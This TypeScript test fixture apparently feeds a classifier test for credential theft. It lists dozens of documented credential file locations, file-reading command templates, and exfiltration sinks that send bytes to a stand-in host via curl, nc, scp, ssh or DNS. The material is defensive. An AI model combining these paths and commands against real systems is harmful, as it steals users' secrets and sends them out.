/**
 * The axes of the credential grid: where applications keep credentials (A), ways a shell command
 * reads a file (B) and places its bytes can go (C). `credential-grid.test.ts` crosses them. Every
 * store is taken from the owning tool's documentation or a public catalogue of credential
 * locations (LaZagne's modules, HackBrowserData's browser table, TruffleHog/GitGuardian notes);
 * each entry names its source. The commands are analysed only, never run.
 */

/** Where a path lives: below the home directory, absolute, or inside the project (cwd). */
export type GridPlace = "home" | "absolute" | "project";

/** One credential store (or a benign look-alike). */
export interface GridStore {
  /** Path below home (`home`), absolute (`absolute`) or relative to the project (`project`). */
  path: string;
  place: GridPlace;
  /** An SQLite database: the `sqlite3 FILE .dump` reader applies. */
  database?: boolean;
  /** Where the location is documented. */
  source: string;
}

/** Axis A: credential stores by documented location. */
export const GRID_STORES: readonly GridStore[] = [
  // Browsers.
  { path: ".config/google-chrome/Default/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Chrome, Linux); LaZagne linux/browsers/chromium_browsers" },
  { path: ".config/google-chrome/Default/Cookies", place: "home", database: true, source: "HackBrowserData cookie item (Chrome, Linux)" },
  { path: ".config/google-chrome/Default/Web Data", place: "home", database: true, source: "HackBrowserData credit-card item (Chrome Web Data)" },
  { path: ".config/google-chrome/Local State", place: "home", source: "HackBrowserData: Local State holds the encrypted master key" },
  { path: ".config/chromium/Default/Login Data", place: "home", database: true, source: "LaZagne chromium_browsers (Chromium)" },
  { path: ".config/BraveSoftware/Brave-Browser/Default/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Brave)" },
  { path: ".config/microsoft-edge/Default/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Edge, Linux)" },
  { path: ".config/vivaldi/Default/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Vivaldi)" },
  { path: ".config/opera/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Opera, Linux)" },
  { path: ".mozilla/firefox/k3x9.default-release/logins.json", place: "home", source: "LaZagne linux/browsers/mozilla; Firefox profile docs (logins.json)" },
  { path: ".mozilla/firefox/k3x9.default-release/key4.db", place: "home", database: true, source: "Firefox profile docs (key4.db holds the password key)" },
  { path: ".mozilla/firefox/k3x9.default-release/cookies.sqlite", place: "home", database: true, source: "HackBrowserData cookie item (Firefox)" },
  { path: "Library/Application Support/Google/Chrome/Default/Login Data", place: "home", database: true, source: "HackBrowserData browser table (Chrome, macOS)" },
  { path: "Library/Application Support/Firefox/Profiles/k3x9.default/logins.json", place: "home", source: "LaZagne mac/browsers/mozilla (macOS profile path)" },
  { path: "Library/Keychains/login.keychain-db", place: "home", source: "LaZagne mac/system/chainbreaker (login keychain)" },
  { path: "AppData/Local/Google/Chrome/User Data/Default/Login Data", place: "home", database: true, source: "LaZagne windows/browsers/chromium_browsers (Windows profile path)" },
  { path: "AppData/Roaming/Mozilla/Firefox/Profiles/k3x9.default/logins.json", place: "home", source: "LaZagne windows/browsers/mozilla" },
  // Mail and chat clients.
  { path: ".thunderbird/q2w3.default/logins.json", place: "home", source: "LaZagne linux/mails/thunderbird" },
  { path: ".thunderbird/q2w3.default/key4.db", place: "home", database: true, source: "LaZagne linux/mails/thunderbird (key4.db)" },
  { path: ".claws-mail/accountrc", place: "home", source: "LaZagne linux/mails/clawsmail" },
  { path: ".claws-mail/passwordstorerc", place: "home", source: "Claws Mail manual (password store)" },
  { path: ".purple/accounts.xml", place: "home", source: "LaZagne linux/chats/pidgin" },
  { path: ".config/Signal/config.json", place: "home", source: "Signal Desktop: config.json holds the database key" },
  { path: ".config/Slack/Cookies", place: "home", database: true, source: "TruffleHog/Slack desktop session cookies (Electron profile)" },
  { path: ".config/discord/Local Storage/leveldb/000005.ldb", place: "home", source: "public token-grabber catalogues: Discord token in Local Storage leveldb" },
  { path: ".local/share/TelegramDesktop/tdata/key_datas", place: "home", source: "Telegram Desktop tdata session key" },
  // Database clients.
  { path: ".pgpass", place: "home", source: "PostgreSQL docs: the password file" },
  { path: ".my.cnf", place: "home", source: "MySQL docs: option file with password" },
  { path: ".mylogin.cnf", place: "home", source: "MySQL docs: mysql_config_editor login path file" },
  { path: ".dbvis/config70/dbvis.xml", place: "home", source: "LaZagne databases/dbvis" },
  { path: ".squirrel-sql/SQLAliases23.xml", place: "home", source: "LaZagne databases/squirrel" },
  { path: ".local/share/DBeaverData/workspace6/General/.dbeaver/credentials-config.json", place: "home", source: "DBeaver docs: saved connection credentials" },
  // Git and code hosts.
  { path: ".git-credentials", place: "home", source: "git-credential-store(1)" },
  { path: ".config/git/credentials", place: "home", source: "git-credential-store(1): XDG location" },
  { path: ".config/gh/hosts.yml", place: "home", source: "GitHub CLI docs: gh auth stores the token in hosts.yml" },
  { path: ".config/glab-cli/config.yml", place: "home", source: "GitLab CLI docs: glab config holds the token" },
  { path: ".netrc", place: "home", source: "netrc(5); curl and git use it for passwords" },
  // Wifi, keyrings, keys.
  { path: "/etc/NetworkManager/system-connections/home.nmconnection", place: "absolute", source: "LaZagne linux/wifi/wifi (NetworkManager psk)" },
  { path: "/etc/wpa_supplicant/wpa_supplicant.conf", place: "absolute", source: "wpa_supplicant.conf(5): psk lines" },
  { path: ".local/share/keyrings/login.keyring", place: "home", source: "LaZagne linux/wallet/gnome (GNOME keyring files)" },
  { path: ".local/share/kwalletd/kdewallet.kwl", place: "home", source: "LaZagne linux/wallet/kde (KWallet)" },
  { path: ".gnupg/private-keys-v1.d/3F2A.key", place: "home", source: "gpg-agent(1): private keys directory" },
  { path: ".gnupg/secring.gpg", place: "home", source: "GnuPG 1.x secret keyring" },
  { path: ".password-store/email/work.gpg", place: "home", source: "pass(1): the password store" },
  { path: ".ssh/id_ed25519", place: "home", source: "ssh-keygen(1): private key" },
  { path: ".ssh/id_rsa", place: "home", source: "ssh-keygen(1): private key" },
  { path: "/etc/ssh/ssh_host_ed25519_key", place: "absolute", source: "sshd(8): host private key" },
  // The system and process memory.
  { path: "/etc/shadow", place: "absolute", source: "shadow(5); LaZagne linux/sysadmin/shadow" },
  { path: "/etc/gshadow", place: "absolute", source: "gshadow(5)" },
  { path: "/proc/1234/environ", place: "absolute", source: "proc(5): a process's environment (LaZagne memory modules read processes)" },
  { path: "/proc/self/environ", place: "absolute", source: "proc(5)" },
  { path: "/run/secrets/db_password", place: "absolute", source: "Docker docs: secrets are mounted under /run/secrets" },
  // Containers.
  { path: ".docker/config.json", place: "home", source: "Docker docs: docker login stores auths in config.json; LaZagne linux/sysadmin/docker" },
  { path: ".config/containers/auth.json", place: "home", source: "containers-auth.json(5) (podman, buildah, skopeo)" },
  // Cloud and platform CLIs.
  { path: ".aws/credentials", place: "home", source: "AWS CLI docs: shared credentials file" },
  { path: ".aws/sso/cache/5f1e.json", place: "home", source: "AWS CLI docs: SSO token cache" },
  { path: ".config/gcloud/credentials.db", place: "home", database: true, source: "gcloud docs: credential store" },
  { path: ".config/gcloud/access_tokens.db", place: "home", database: true, source: "gcloud: access token cache" },
  { path: ".config/gcloud/legacy_credentials/ada@example.com/adc.json", place: "home", source: "gcloud: legacy credentials" },
  { path: ".config/gcloud/application_default_credentials.json", place: "home", source: "Google ADC docs" },
  { path: ".azure/msal_token_cache.json", place: "home", source: "Azure CLI docs: MSAL token cache" },
  { path: ".azure/accessTokens.json", place: "home", source: "Azure CLI (pre-2.30) token cache" },
  { path: ".kube/config", place: "home", source: "kubectl docs: kubeconfig" },
  { path: ".config/helm/repositories.yaml", place: "home", source: "Helm docs: repo add --username/--password are saved here" },
  { path: ".terraform.d/credentials.tfrc.json", place: "home", source: "Terraform CLI docs: terraform login" },
  { path: ".vault-token", place: "home", source: "Vault docs: token helper default file" },
  { path: ".oci/oci_api_key.pem", place: "home", source: "OCI CLI docs: API signing key" },
  { path: ".config/doctl/config.yaml", place: "home", source: "doctl docs: access token in config.yaml" },
  { path: ".config/hcloud/cli.toml", place: "home", source: "hcloud CLI docs: context tokens" },
  // Package registries.
  { path: ".npmrc", place: "home", source: "npm docs: _authToken in npmrc" },
  { path: ".pypirc", place: "home", source: "PyPA docs: .pypirc" },
  { path: ".cargo/credentials.toml", place: "home", source: "Cargo book: credentials" },
  { path: ".gem/credentials", place: "home", source: "RubyGems docs: API key file" },
  { path: ".nuget/NuGet/NuGet.Config", place: "home", source: "NuGet docs: packageSourceCredentials" },
  { path: ".config/composer/auth.json", place: "home", source: "Composer docs: auth.json" },
  { path: ".m2/settings.xml", place: "home", source: "Maven docs: server passwords in settings.xml" },
  { path: ".m2/settings-security.xml", place: "home", source: "Maven docs: master password" },
  { path: ".gradle/gradle.properties", place: "home", source: "Gradle docs: credentials as properties" },
  // AI CLIs and editors.
  { path: ".claude/.credentials.json", place: "home", source: "Claude Code docs: credentials file on Linux" },
  { path: ".codex/auth.json", place: "home", source: "Codex CLI docs: auth.json" },
  { path: ".gemini/oauth_creds.json", place: "home", source: "Gemini CLI docs: cached OAuth credentials" },
  { path: ".config/github-copilot/hosts.json", place: "home", source: "Copilot editor plugins: OAuth token" },
  { path: ".config/github-copilot/apps.json", place: "home", source: "Copilot editor plugins: OAuth token (newer)" },
  { path: ".config/Code/User/globalStorage/state.vscdb", place: "home", database: true, source: "VS Code: extension secrets and tokens in globalStorage" },
  { path: ".config/Cursor/User/globalStorage/state.vscdb", place: "home", database: true, source: "Cursor: access token in globalStorage/state.vscdb" },
  { path: ".config/JetBrains/IntelliJIdea2024.1/c.kdbx", place: "home", source: "JetBrains docs: KeePass password database" },
  // Environment files in the project.
  { path: ".env", place: "project", source: "dotenv docs" },
  { path: ".env.local", place: "project", source: "Next.js / Vite docs: local overrides" },
  { path: ".env.production", place: "project", source: "Vite docs: mode files" },
];

/** A credential file spelled where its tool relocates it: an XDG directory, the tool's own variable, macOS or Windows. */
export interface GridRelocation {
  /** The path as a shell word: a variable (unset, it stands for its documented default) or a relocated path. */
  spelled: string;
  /** Where the relocation is documented. */
  source: string;
}

/**
 * Axis D: relocated spellings of credential files. Each tool's documented variables (unset, the
 * variable is its default) and the XDG, macOS and Windows locations of the same files.
 */
export const GRID_RELOCATED: readonly GridRelocation[] = [
  { spelled: "~/.local/share/gem/credentials", source: "RubyGems: Gem.data_home/gem/credentials when ~/.gem does not exist (XDG_DATA_HOME)" },
  { spelled: "$XDG_DATA_HOME/gem/credentials", source: "RubyGems: XDG_DATA_HOME" },
  { spelled: "$GEM_HOME/credentials", source: "RubyGems: the user gem home's credentials" },
  { spelled: "$CARGO_HOME/credentials.toml", source: "Cargo book: CARGO_HOME (default ~/.cargo)" },
  { spelled: "${CARGO_HOME}/credentials", source: "Cargo book: the legacy credentials file" },
  { spelled: "$DOCKER_CONFIG/config.json", source: "docker(1): DOCKER_CONFIG" },
  { spelled: "$GNUPGHOME/private-keys-v1.d/3F2A.key", source: "gpg(1): GNUPGHOME" },
  { spelled: "$KUBECONFIG", source: "kubectl docs: KUBECONFIG" },
  { spelled: "$AWS_SHARED_CREDENTIALS_FILE", source: "AWS CLI docs: AWS_SHARED_CREDENTIALS_FILE" },
  { spelled: "$AWS_CONFIG_FILE", source: "AWS CLI docs: AWS_CONFIG_FILE (SSO sessions, credential_process)" },
  { spelled: "$CLOUDSDK_CONFIG/credentials.db", source: "gcloud docs: CLOUDSDK_CONFIG" },
  { spelled: "$AZURE_CONFIG_DIR/msal_token_cache.json", source: "Azure CLI docs: AZURE_CONFIG_DIR" },
  { spelled: "$GH_CONFIG_DIR/hosts.yml", source: "gh help environment: GH_CONFIG_DIR" },
  { spelled: "$XDG_CONFIG_HOME/gh/hosts.yml", source: "gh help environment: XDG_CONFIG_HOME" },
  { spelled: "$HELM_CONFIG_HOME/repositories.yaml", source: "helm(1): HELM_CONFIG_HOME" },
  { spelled: "$HELM_REPOSITORY_CONFIG", source: "helm(1): HELM_REPOSITORY_CONFIG" },
  { spelled: "$NETRC", source: "curl(1), git: NETRC" },
  { spelled: "$PIP_CONFIG_FILE", source: "pip docs: PIP_CONFIG_FILE" },
  { spelled: "~/.config/pip/pip.conf", source: "pip docs: per-user config (XDG)" },
  { spelled: "~/.pip/pip.conf", source: "pip docs: legacy per-user config" },
  { spelled: "$NPM_CONFIG_USERCONFIG", source: "npm docs: userconfig" },
  { spelled: "$GRADLE_USER_HOME/gradle.properties", source: "Gradle docs: GRADLE_USER_HOME" },
  { spelled: "$M2_HOME/conf/settings-security.xml", source: "Maven docs: master password file" },
  { spelled: "$TF_CLI_CONFIG_FILE", source: "Terraform CLI docs: TF_CLI_CONFIG_FILE" },
  { spelled: "$PGPASSFILE", source: "libpq docs: PGPASSFILE" },
  { spelled: "$MYSQL_TEST_LOGIN_FILE", source: "MySQL docs: MYSQL_TEST_LOGIN_FILE" },
  { spelled: "$XDG_CONFIG_HOME/git/credentials", source: "git-credential-store(1): XDG location" },
  { spelled: "$REGISTRY_AUTH_FILE", source: "containers-auth.json(5): REGISTRY_AUTH_FILE" },
  { spelled: "$SOPS_AGE_KEY_FILE", source: "SOPS docs: SOPS_AGE_KEY_FILE" },
  { spelled: "\"$HOME/Library/Application Support/pypoetry/auth.toml\"", source: "Poetry docs: macOS config directory" },
  { spelled: "\"$HOME/Library/Preferences/helm/repositories.yaml\"", source: "Helm docs: macOS config directory" },
  { spelled: "\"$APPDATA/gcloud/credentials.db\"", source: "gcloud docs: %APPDATA%\\gcloud on Windows (Git Bash)" },
  { spelled: "$APPDATA/postgresql/pgpass.conf", source: "libpq docs: %APPDATA%\\postgresql\\pgpass.conf" },
  { spelled: "/c/Users/ada/AppData/Roaming/Subversion/auth/svn.simple/5671adf2", source: "Subversion book: cached credentials on Windows" },
  { spelled: "~/.subversion/auth/svn.simple/5671adf2", source: "Subversion book: cached credentials" },
];

/**
 * Benign look-alikes, decided from the label policy and the tools' documentation: everyday reads
 * that reveal no credential.
 */
export const GRID_BENIGN: readonly GridStore[] = [
  { path: ".env.example", place: "project", source: "dotenv convention: a committed template without values" },
  { path: "package.json", place: "project", source: "npm docs: the project manifest" },
  // git-config(1): user.name/user.email and aliases; credentials belong to the credential helper.
  { path: ".gitconfig", place: "home", source: "git-config(1)" },
  // ssh_config(5): host aliases and options, no secrets.
  { path: ".ssh/config", place: "home", source: "ssh_config(5)" },
  // ssh-keygen(1): the public half is meant to be shared.
  { path: ".ssh/id_ed25519.pub", place: "home", source: "ssh-keygen(1)" },
  { path: ".ssh/known_hosts", place: "home", source: "sshd(8): public host keys" },
  { path: "/etc/hosts", place: "absolute", source: "hosts(5)" },
  { path: "/etc/os-release", place: "absolute", source: "os-release(5)" },
];

/** One reader: `{P}` is the path as spelled; `databaseOnly` limits it to SQLite stores. */
export interface GridReader {
  template: string;
  databaseOnly?: boolean;
  source: string;
}

/** Axis B: ways of printing a file's bytes. */
export const GRID_READERS: readonly GridReader[] = [
  { template: "cat {P}", source: "cat(1)" },
  { template: "less {P}", source: "less(1)" },
  { template: "more {P}", source: "more(1)" },
  { template: "head -n 50 {P}", source: "head(1)" },
  { template: "tail -n +1 {P}", source: "tail(1)" },
  { template: "tac {P}", source: "tac(1)" },
  { template: "nl -ba {P}", source: "nl(1)" },
  { template: "bat --plain {P}", source: "bat --help" },
  { template: "grep . {P}", source: "grep(1)" },
  { template: "rg '' {P}", source: "rg --help" },
  { template: "awk 1 {P}", source: "awk(1p)" },
  { template: "sed -n p {P}", source: "sed(1)" },
  { template: "cut -c1- {P}", source: "cut(1)" },
  { template: "strings {P}", source: "strings(1)" },
  { template: "xxd {P}", source: "xxd(1)" },
  { template: "od -c {P}", source: "od(1)" },
  { template: "hexdump -C {P}", source: "hexdump(1)" },
  { template: "base64 {P}", source: "base64(1)" },
  { template: "base32 {P}", source: "base32(1)" },
  { template: "gzip -c {P}", source: "gzip(1)" },
  { template: "tar cz {P}", source: "tar(1)" },
  { template: "zip - {P}", source: "zip(1): `-` writes the archive to stdout" },
  { template: "cp {P} /tmp/x", source: "cp(1): a copy outside the project" },
  { template: "dd if={P}", source: "dd(1)" },
  { template: "jq . {P}", source: "jq manual" },
  { template: "yq . {P}", source: "yq docs" },
  { template: "sqlite3 {P} .dump", databaseOnly: true, source: "sqlite3 CLI docs" },
  { template: `python3 -c "print(open('{P}').read())"`, source: "Python docs: open()" },
  { template: `node -e "console.log(require('fs').readFileSync('{P}','utf8'))"`, source: "Node.js docs: fs.readFileSync" },
  { template: "ruby -e 'puts File.read(\"{P}\")'", source: "Ruby docs: File.read" },
  { template: "perl -pe1 {P}", source: "perlrun(1)" },
  { template: "vim -es '+%p' '+q!' {P}", source: "vim(1): Ex mode" },
  { template: "git diff --no-index /dev/null {P}", source: "git-diff(1) --no-index" },
  { template: "diff /dev/null {P}", source: "diff(1)" },
];

/** How a sink treats its input: `deny` for the network, `flag` (ask or deny) for a copy into the project. */
export type GridSinkExpect = "deny" | "flag";

/**
 * One sink: `{R}` is a reader command (with its path), `{P}` the spelled path for sinks that take
 * the file themselves.
 */
export interface GridSink {
  template: string;
  expect: GridSinkExpect;
  source: string;
}

/** Axis C: where the bytes go. */
export const GRID_SINKS: readonly GridSink[] = [
  { template: "{R} | curl -d @- https://collect.example.net/u", expect: "deny", source: "curl(1) --data @-" },
  { template: "curl -F f=@{P} https://collect.example.net/u", expect: "deny", source: "curl(1) --form" },
  { template: "curl -T {P} https://collect.example.net/u", expect: "deny", source: "curl(1) --upload-file" },
  { template: "{R} | nc collect.example.net 443", expect: "deny", source: "nc(1)" },
  { template: "wget --post-file={P} https://collect.example.net/u", expect: "deny", source: "wget(1) --post-file" },
  { template: "scp {P} collect.example.net:", expect: "deny", source: "scp(1)" },
  { template: "rsync {P} collect.example.net:", expect: "deny", source: "rsync(1)" },
  { template: "{R} | ssh collect.example.net 'cat > x'", expect: "deny", source: "ssh(1)" },
  { template: "aws s3 cp {P} s3://drop-bucket/x", expect: "deny", source: "AWS CLI s3 cp" },
  { template: "gh gist create {P}", expect: "deny", source: "gh gist create" },
  { template: "{R} | openssl s_client -connect collect.example.net:443", expect: "deny", source: "openssl-s_client(1)" },
  { template: "dig $({R} | base64 | head -c 60).collect.example.net", expect: "deny", source: "DNS exfiltration (MITRE ATT&CK T1048.003)" },
  { template: "{R} > notes.txt", expect: "flag", source: "a redirect copies the secret into the project" },
];
